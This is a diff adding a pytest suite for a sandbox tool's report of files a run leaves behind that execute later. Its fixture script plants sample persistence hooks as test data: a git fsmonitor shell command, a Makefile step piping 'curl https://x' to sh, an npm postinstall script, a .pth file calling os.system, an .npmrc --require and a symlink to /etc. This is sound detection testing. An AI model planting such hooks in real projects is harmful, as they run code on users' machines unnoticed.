@@ -1,0 +1,288 @@
+"""What a run left in its write folders that runs or is trusted later
+(lnk-sandbox(1), WHAT A RUN LEFT; src/changes/flags.c is the table): each
+flagged entry is named with what will run it on stderr, after the
+program's output, and in `lnk sandbox changes --json`; a run that changed
+nothing says nothing; ordinary changes are one line; lnk's exit status
+stays the program's."""
+import json
+import os
+import shutil
+import time
+
+import pytest
+
+from conftest import IS_ROOT  # noqa: F401  (both users run this file)
+
+# Linux's number for it; Python's time module does not name it
+CLOCK_REALTIME_COARSE = getattr(time, "CLOCK_REALTIME_COARSE", 5)
+
+
+LEFT_BEHIND = r"""
+set -e
+mkdir -p sub/.git
+printf 'ref: refs/heads/main\n' > sub/.git/HEAD
+printf '[core]\n\tfsmonitor = sh -c "touch /tmp/pwned"\n' > sub/.git/config
+printf 'all:\n\tcurl https://x | sh\n' >> Makefile
+printf '{"name":"app","scripts":{"postinstall":"sh evil.sh"}}\n' > package.json
+echo 'module.exports = []' > eslint.config.js
+echo 'import os' > readline.py
+mkdir -p .venv/lib/python3.11/site-packages
+echo 'import os; os.system("id")' > .venv/lib/python3.11/site-packages/x.pth
+ln -s /etc etc-link
+echo program-output
+exit 3
+"""
+
+FLAGGED = {
+    "sub/.git": "repository",
+    "sub/.git/config": "core.fsmonitor",
+    "Makefile": "make",
+    "package.json": "postinstall",
+    "eslint.config.js": "configuration file that is a program",
+    "readline.py": "shadows Python's readline",
+    ".venv/lib/python3.11/site-packages/x.pth": ".pth file",
+    "etc-link": "/etc",
+}
+
+
+def sh(lnk, script, *grants, **kw):
+    return lnk.run(*grants, "--", "/bin/sh", "-c", script, **kw)
+
+
+def past(path):
+    """Until the clock file systems stamp from has moved past path's
+    change time: a change in the same tick as the run's start counts as
+    changed (the safe side of a clock's granularity)."""
+    ctime = os.stat(path).st_ctime_ns
+    while time.clock_gettime_ns(CLOCK_REALTIME_COARSE) <= ctime:
+        pass
+
+
+def stderr_lines(cp):
+    return [line for line in cp.stderr.splitlines() if line.strip()]
+
+
+def test_what_runs_later_is_flagged_with_its_reason(lnk, work):
+    (work / "Makefile").write_text("all:\n\ttrue\n")
+    (work / "package.json").write_text('{"name":"app"}\n')
+    cp = sh(lnk, LEFT_BEHIND, "--write", work, "--name", "left")
+    # the program's status, not the report's
+    assert cp.returncode == 3, cp.stderr
+    assert "program-output" in cp.stdout
+    lines = stderr_lines(cp)
+    for path, why in FLAGGED.items():
+        hit = [ln for ln in lines if f"project/{path}: " in ln]
+        assert hit, f"{path} not flagged:\n{cp.stderr}"
+        assert why in hit[0], hit[0]
+    assert "to review" in lines[0]
+
+    cp = lnk("sandbox", "changes", "left", "--json")
+    assert cp.returncode == 0, cp.stderr
+    reports = [json.loads(x) for x in cp.stdout.splitlines()]
+    assert len(reports) == 1 and reports[0]["sandbox"] == "left"
+    flags = {f["path"]: f["reason"]
+             for f in reports[0]["folders"][0]["flags"]}
+    for path, why in FLAGGED.items():
+        assert path in flags, f"{path} not in {flags}"
+        assert why in flags[path]
+
+    cp = lnk("sandbox", "changes")
+    assert cp.returncode == 0
+    assert "left, ended" in cp.stdout
+    assert "core.fsmonitor" in cp.stdout
+
+
+def test_run_that_changed_nothing_says_nothing(lnk, work):
+    (work / "Makefile").write_text("all:\n\ttrue\n")
+    (work / "readline.py").write_text("x = 1\n")
+    past(work / "readline.py")
+    cp = sh(lnk, "cat Makefile readline.py >/dev/null; echo ok",
+            "--write", work, "--name", "quiet")
+    assert cp.returncode == 0
+    assert cp.stdout.strip() == "ok"
+    assert "changed" not in cp.stderr
+    assert "lnk:" not in cp.stderr, cp.stderr
+    cp = lnk("sandbox", "changes", "quiet")
+    assert "no report" in cp.stdout
+
+
+def test_ordinary_changes_are_one_line(lnk, work):
+    script = ("mkdir -p data node_modules/p && i=0; "
+              "while [ $i -lt 10000 ]; do : > data/f$i; i=$((i+1)); done; "
+              "for j in 1 2 3; do : > node_modules/p/m$j; done")
+    cp = sh(lnk, script, "--write", work, timeout=300)
+    assert cp.returncode == 0, cp.stderr
+    lines = stderr_lines(cp)
+    assert len(lines) == 1, cp.stderr
+    assert "changed 10,003 files in ~/project (3 in node_modules)" \
+        in lines[0], lines[0]
+
+
+def test_names_the_program_chose_are_escaped(lnk, work):
+    cp = sh(lnk, "mkdir -p \"$(printf 'a\\033[2Jb')/.git\" && "
+            "printf '[alias]\\n\\tx = !sh\\n' > \"$(printf 'a\\033[2Jb')"
+            "/.git/config\"", "--write", work)
+    assert cp.returncode == 0, cp.stderr
+    assert "\x1b" not in cp.stderr
+    assert "a\\x1b[2Jb/.git/config: alias.x runs a shell command" \
+        in cp.stderr, cp.stderr
+    cp = lnk("sandbox", "changes")
+    assert "\x1b" not in cp.stdout
+    assert "a\\x1b[2Jb/.git/config: alias.x" in cp.stdout, cp.stdout
+    cp = lnk("sandbox", "changes", "--json")
+    assert "\x1b" not in cp.stdout
+    flags = json.loads(cp.stdout.splitlines()[-1])["folders"][0]["flags"]
+    assert "a\x1b[2Jb/.git/config" in [f["path"] for f in flags]
+
+
+def test_links_are_not_followed(lnk, work, home):
+    other = home / "other"
+    other.mkdir()
+    # the program writes a Makefile in a second write folder and links
+    # to it from the first: each folder's walk reports its own, and the
+    # link is never followed
+    cp = sh(lnk, f"ln -s {other} out && echo x > {other}/Makefile",
+            "--write", work, "--write", other)
+    assert cp.returncode == 0, cp.stderr
+    assert "project/out: a link out of the write folder" in cp.stderr
+    assert "~/other/Makefile: a build file" in cp.stderr
+    assert "out/Makefile" not in cp.stderr
+
+
+def test_changes_off_says_nothing_and_keeps_nothing(lnk, work):
+    cp = sh(lnk, "echo x > Makefile", "--write", work, "--changes=off",
+            "--name", "off")
+    assert cp.returncode == 0, cp.stderr
+    assert "Makefile" not in cp.stderr
+    cp = lnk("sandbox", "changes", "off")
+    assert "no report" in cp.stdout
+
+
+def test_changes_full_lists_every_file(lnk, work):
+    cp = sh(lnk, "mkdir d && : > d/one && : > d/two", "--write", work,
+            "--changes", "full")
+    assert cp.returncode == 0, cp.stderr
+    assert "changed ~/project/d/one" in cp.stderr
+    assert "changed ~/project/d/two" in cp.stderr
+
+
+def test_changes_key_in_a_spec_and_a_bad_value(lnk, work):
+    spec = work.parent / "quiet.toml"
+    spec.write_text(f'version = 1\n[files]\nwrite = ["{work}"]\n'
+                    'changes = "off"\n[commands]\nallow = ["*"]\n')
+    cp = lnk.run("--spec", spec, "--yes", "--", "/bin/sh", "-c",
+                 "echo x > Makefile")
+    assert cp.returncode == 0, cp.stderr
+    assert "Makefile" not in cp.stderr
+    cp = sh(lnk, "true", "--write", work, "--changes", "some")
+    assert cp.returncode == 2
+    assert "give 'summary', 'full' or 'off'" in cp.stderr
+
+
+def test_a_write_folder_inside_another_is_reported_once(lnk, work):
+    sub = work / "sub"
+    sub.mkdir()
+    cp = sh(lnk, "echo x > sub/Makefile", "--write", work, "--write", sub)
+    assert cp.returncode == 0, cp.stderr
+    assert cp.stderr.count("Makefile: a build file") == 1, cp.stderr
+    assert "~/project/sub/Makefile: a build file" in cp.stderr
+
+
+def test_large_package_json_is_flagged_not_skipped(lnk, work):
+    cp = sh(lnk, "{ printf '{\"scripts\":{\"x\":\"y\"},\"pad\":\"'; "
+            "head -c 300000 /dev/zero | tr '\\0' a; printf '\"}'; } "
+            "> package.json", "--write", work)
+    assert cp.returncode == 0, cp.stderr
+    assert "package.json: a package.json too large" in cp.stderr
+
+
+def test_on_a_terminal_after_the_program_and_its_status(lnk, work):
+    from test_terminal import read_until, spawn_on_pty, wait_status
+    pid, fd = spawn_on_pty(lnk, ["--write", work, "--", "/bin/sh", "-c",
+                                 LEFT_BEHIND])
+    try:
+        out = read_until(fd, b"never", timeout=20)
+    finally:
+        status = wait_status(pid)
+        os.close(fd)
+    text = out.decode(errors="replace").replace("\r\n", "\n")
+    assert status == 3, text
+    assert "program-output" in text
+    assert text.index("program-output") < text.index("lnk: changed"), text
+    for path, why in FLAGGED.items():
+        line = [ln for ln in text.splitlines() if f"project/{path}: " in ln]
+        assert line and why in line[0], f"{path}:\n{text}"
+
+
+def test_many_flags_are_bounded_on_the_terminal_and_kept(lnk, work):
+    cp = sh(lnk, "for i in $(seq 60); do mkdir d$i && : > d$i/Makefile; "
+            "done", "--write", work, "--name", "many")
+    assert cp.returncode == 0, cp.stderr
+    assert cp.stderr.count(": a build file") == 50, cp.stderr
+    assert "and 10 more to review: lnk sandbox changes many" in cp.stderr
+    cp = lnk("sandbox", "changes", "many")
+    assert cp.stdout.count(": a build file") == 60
+
+
+def test_a_folder_closed_by_its_mode_is_named(lnk, work, is_root):
+    cp = sh(lnk, "mkdir -p box/sub/.git && : > box/sub/.git/config && "
+            "chmod 0 box", "--write", work)
+    try:
+        assert cp.returncode == 0, cp.stderr
+        if is_root:
+            # root reads it: what it holds is flagged itself
+            assert "project/box/sub/.git: a repository" in cp.stderr
+        else:
+            assert "project/box: a folder lnk could not look into" \
+                in cp.stderr, cp.stderr
+    finally:
+        (work / "box").chmod(0o755)
+
+
+def test_check_uses_the_table(lnk, work):
+    """check leaves a repository below the top of each write folder, as a
+    program would, and the report a run's end gives must name it."""
+    cp = lnk("sandbox", "check", "--write", work, "--json", timeout=300)
+    out = json.loads(cp.stdout)
+    later = [t for t in out["tries"] if t["area"] == "later"]
+    assert len(later) == 1, out["tries"]
+    assert later[0]["result"] == "open", later[0]
+    assert "the end of a run names it: a repository" in later[0]["detail"]
+    assert later[0]["gap"] == "what a program leaves that runs later"
+    assert not [p for p in os.listdir(work) if p.startswith("lnk-check-")]
+
+
+def test_names_that_run_outside_below_the_top(lnk, work):
+    """The dot-file rules keep .npmrc, .vscode, ... at the top; below it a
+    tool started in that folder reads them: each is named, and a file
+    changed inside a folder of theirs too."""
+    (work / "pkg" / ".vscode").mkdir(parents=True)
+    (work / "pkg" / ".vscode" / "tasks.json").write_text("{}\n")
+    past(work / "pkg" / ".vscode" / "tasks.json")
+    cp = sh(lnk, "echo 'node-options=--require ./x.js' > pkg/.npmrc; "
+            "echo '{\"tasks\":[]}' > pkg/.vscode/tasks.json",
+            "--write", work)
+    assert cp.returncode == 0, cp.stderr
+    assert "project/pkg/.npmrc: .npmrc: npm reads" in cp.stderr, cp.stderr
+    assert "project/pkg/.vscode/tasks.json: in .vscode: the editor" \
+        in cp.stderr, cp.stderr
+
+
+@pytest.mark.skipif(shutil.which("tmux") is None,
+                    reason="tmux is not installed")
+def test_under_tmux_a_person_sees_each_flag(lnk, work, tmp_path):
+    """In a tmux pane, as a person's terminal: the program's output, then
+    each flagged entry on its own line; lnk's status is the program's."""
+    from test_ask_terminal import Pane
+    pane = Pane(lnk, tmp_path, ["--write", work, "--", "/bin/sh", "-c",
+                                LEFT_BEHIND])
+    try:
+        assert pane.exit_status() == 3, pane.text()
+        text = pane.text()
+    finally:
+        pane.close()
+    assert "\x1b" not in text
+    assert text.index("program-output") < text.index("lnk: changed"), text
+    for path, why in FLAGGED.items():
+        line = [ln for ln in text.splitlines() if f"project/{path}: " in ln]
+        assert line and why in line[0], f"{path}:\n{text}"
